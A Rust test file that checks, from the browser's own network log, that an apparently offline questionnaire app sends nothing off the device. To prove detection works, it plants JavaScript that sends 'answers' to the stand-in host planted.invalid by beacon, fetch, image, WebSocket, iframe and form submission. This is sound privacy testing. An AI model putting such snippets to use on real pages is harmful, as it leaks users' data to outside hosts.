//! Nothing leaves the device: seen not from the page, which could be deceived,
//! nor from our server, which hears only what is sent to it, but from the
//! browser's own log of the network.

mod log;

use crate::harness::engines::Need;
use crate::harness::{Browser, Setting};
use crate::hosts::built;
use crate::sheets;
use crate::walk::Walk;
use crate::words::say;
use log::{Log, Span};
use serde_json::json;
use std::time::{Duration, Instant, SystemTime};

/// A load is over once the server has heard nothing for so long: browsers
/// fetch icons at a moment of their own.
const QUIET: Duration = Duration::from_millis(500);

/// A browser that is watched, and when it was loading.
struct Watched {
    page: Browser,
    loads: Vec<Span>,
    /// Files that may be asked for at any time.
    any_time: &'static [&'static str],
}

impl Watched {
    fn open(worker: bool) -> Self {
        let start = SystemTime::now();
        let page = Browser::open(Setting {
            watched: true,
            worker,
            ..Setting::default()
        });
        if worker {
            page.wait("a copy is kept", "window.massageCheckOffline?.kept");
        }
        let mut watched = Self {
            page,
            loads: Vec::new(),
            // By the browser itself, which looks for a newer worker when it likes.
            any_time: if worker { &["worker.js"] } else { &[] },
        };
        watched.loaded(start);
        watched
    }

    fn loaded(&mut self, start: SystemTime) {
        let (mut heard, mut since) = (0, Instant::now());
        while since.elapsed() < QUIET {
            let now = self.page.server.heard().len();
            if now > heard {
                (heard, since) = (now, Instant::now());
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        self.loads.push([start, SystemTime::now()]);
    }

    fn reload(&mut self) {
        let start = SystemTime::now();
        self.page.reload();
        self.loaded(start);
    }

    /// What the browser did that it ought not to have done, and how much it
    /// asked for at all.
    fn end(self) -> (Vec<String>, usize) {
        let port = self.page.server.port;
        let log = Log::read(&self.page.end());
        (
            log.wrong(port, &built(), &self.loads, self.any_time),
            log.requests().len(),
        )
    }
}

/// To the outcome and everything beside it: the answers once more, the sheet,
/// which is printed, and the pages about the check, with links to elsewhere.
fn journey(watched: &mut Watched) {
    let page = &watched.page;
    let mut walk = Walk::mouse(page, sheets::SETTLED);
    let review = say("ui.review-title");
    walk.to(&review);
    walk.press(&say("ui.see-outcome"));
    walk.arrive();
    let outcome = walk.heading().to_owned();
    assert!(outcome.starts_with(&say("ui.tier-adapt")));
    walk.press(&say("ui.sheet"));
    page.wait("the sheet", "document.querySelector('.mc-sheet')");
    page.cdp("Page.printToPDF", json!({}));
    page.go_back();
    for aside in ["ui.about", "ui.claims"] {
        page.wait("the outcome", &format!("screen().heading === {outcome:?}"));
        walk.press(&say(aside));
        let there = format!("screen().heading === {:?}", say(aside));
        page.wait("the page beside", &there);
        // As somebody does who thinks about following one.
        let links = "[...document.querySelectorAll('main a[href^=http]')]";
        page.run(
            &format!("for (const link of {links}) link.focus(), link.dispatchEvent(new MouseEvent('mouseover', {{ bubbles: true }}))"),
            &[],
        );
        page.go_back();
    }
    page.wait("the outcome", &format!("screen().heading === {outcome:?}"));
    watched.reload();
    let page = &watched.page;
    assert_eq!(page.text("screen().heading"), outcome);
    // Time for whatever might be sent late.
    std::thread::sleep(Duration::from_secs(1));
}

/// With a copy kept for later, or without one.
fn assert_only_own_files(worker: bool) {
    if Need::DevTools.is_missing() {
        return;
    }
    let mut watched = Watched::open(worker);
    journey(&mut watched);
    let (wrong, asked) = watched.end();
    assert_eq!(wrong, [""; 0]);
    // Twice the page, its two scripts, the program with its own, and the styles.
    assert!(asked >= 10, "only {asked} requests: was it looked at?");
}

#[test]
fn the_browsers_own_log_knows_of_nothing_but_the_pages_files() {
    assert_only_own_files(false);
}

#[test]
fn nor_does_it_where_a_copy_is_kept_for_later() {
    assert_only_own_files(true);
}

/// What the log of a page says that has something in it, from its start or
/// only once it stands there.
fn planted(at_the_start: &str, later: &str) -> String {
    let mut watched = Watched::open(false);
    watched.page.before_each_load(at_the_start);
    watched.reload();
    watched.page.run(later, &[]);
    std::thread::sleep(Duration::from_millis(500));
    let (wrong, _) = watched.end();
    wrong.join("\n")
}

#[test]
fn a_page_that_has_something_planted_in_it_is_noticed() {
    if Need::DevTools.is_missing() {
        return;
    }
    let link = "const link = document.createElement('link'); link.rel = RELATION;
        link.href = 'http://planted.invalid'; document.head.append(link);";
    let (prefetch, preconnect) = (
        link.replace("RELATION", "'dns-prefetch'"),
        link.replace("RELATION", "'preconnect'"),
    );
    let beacon = "navigator.sendBeacon('http://planted.invalid/beacon', 'answers');";
    let nothing = "";
    for (at_the_start, later, noticed) in [
        (
            beacon,
            nothing,
            "URL_REQUEST_START_JOB http://planted.invalid/beacon",
        ),
        (
            "fetch('http://planted.invalid/fetch').catch(() => {});",
            nothing,
            "URL_REQUEST_START_JOB http://planted.invalid/fetch",
        ),
        (
            &prefetch,
            nothing,
            "HOST_RESOLVER_MANAGER_REQUEST http://planted.invalid",
        ),
        // These the policy does not forbid: a look-up is no request, and the page's own site is its own.
        (
            nothing,
            &prefetch,
            "HOST_RESOLVER_MANAGER_REQUEST http://planted.invalid",
        ),
        (
            nothing,
            &preconnect,
            "HOST_RESOLVER_MANAGER_REQUEST http://planted.invalid",
        ),
        (
            nothing,
            "fetch('./?answers');",
            "/?answers, though nothing was being loaded",
        ),
        (
            nothing,
            "fetch('./', { cache: 'reload' });",
            "though nothing was being loaded",
        ),
    ] {
        let said = planted(at_the_start, later);
        assert!(said.contains(noticed), "{at_the_start}{later} gave: {said}");
    }
}

/// Though a name may be looked up on the way: no policy has a word for that.
#[test]
fn the_policy_lets_nothing_out_to_another_site() {
    if Need::DevTools.is_missing() {
        return;
    }
    let said = planted(
        "",
        "navigator.sendBeacon('http://planted.invalid/beacon', 'answers');
        fetch('http://planted.invalid/fetch').catch(() => {});
        new Image().src = 'http://planted.invalid/image';
        try { new WebSocket('ws://planted.invalid/socket'); } catch {}
        const frame = document.createElement('iframe');
        frame.src = 'http://planted.invalid/frame';
        document.body.append(frame);
        const form = document.createElement('form');
        form.action = 'http://planted.invalid/form';
        document.body.append(form);
        form.submit();",
    );
    let sent: Vec<&str> = said
        .lines()
        .filter(|line| !line.starts_with("HOST_RESOLVER_MANAGER_REQUEST http://planted.invalid"))
        .collect();
    assert_eq!(sent, [""; 0]);
}
